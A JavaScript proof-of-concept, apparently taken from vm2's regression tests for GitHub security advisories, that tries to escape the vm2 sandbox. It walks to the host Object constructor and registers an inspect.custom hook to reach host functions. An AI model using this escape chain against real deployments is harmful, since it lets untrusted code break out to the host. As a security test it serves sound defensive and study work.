// Source: vm2 test/ghsa/GHSA-47x8-96vw-5wg6/repro.js (PoC 1 and PoC 3, duplicates GHSA-f539-x546-3726)
// and structural-leak.js / structural-leak-variants.js; fixed in vm2 3.11.0.
// Tried: walk to the host `Object` with `({}).__lookupGetter__` + Buffer.apply, call its unfiltered
// getOwnPropertySymbols(Buffer.prototype) to get the real `nodejs.util.inspect.custom` symbol, and
// register a hook under it on an object passed to WebAssembly.compileStreaming.
const out = {};
const hooks = [];
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
try {
  const g = {}.__lookupGetter__;
  const a = Buffer.apply;
  const p = a.apply(g, [Buffer, ['__proto__']]);
  const step = typeof p === 'function' ? (x) => p.call(x) : (x) => Object.getPrototypeOf(x);
  out.getter = typeof p;
  const o = step(step(a));
  const HObject = o.constructor;
  out.hostObjectIsSandboxObject = HObject === Object;
  const syms = HObject.getOwnPropertySymbols(Buffer.prototype);
  out.symbols = syms.map((s) => String(s));
  for (let i = 0; i < syms.length; i++) if (syms[i] && syms[i].description === 'nodejs.util.inspect.custom') hooks.push(syms[i]);
  hooks.push(syms.at(0));
  const descs = HObject.getOwnPropertyDescriptors(Buffer.prototype);
  for (const s of HObject.getOwnPropertySymbols(descs)) hooks.push(s);
  for (const s of [...syms]) hooks.push(s);
} catch (e) { out.walk = String(e.message).slice(0, 100); }
for (const sym of hooks) {
  const obj = {
    [sym]: (depth, opt, inspect) => { out.hook = true; __wr.use(inspect, 'inspect argument'); __wr.use(inspect.constructor, 'inspect.constructor'); return ''; },
    valueOf: undefined,
    constructor: undefined,
  };
  try { await WebAssembly.compileStreaming(obj).catch(() => undefined); } catch (e) { out.compileStreaming = String(e.message).slice(0, 80); }
  console.log(obj);
}
out.candidates = hooks.length;
return out;
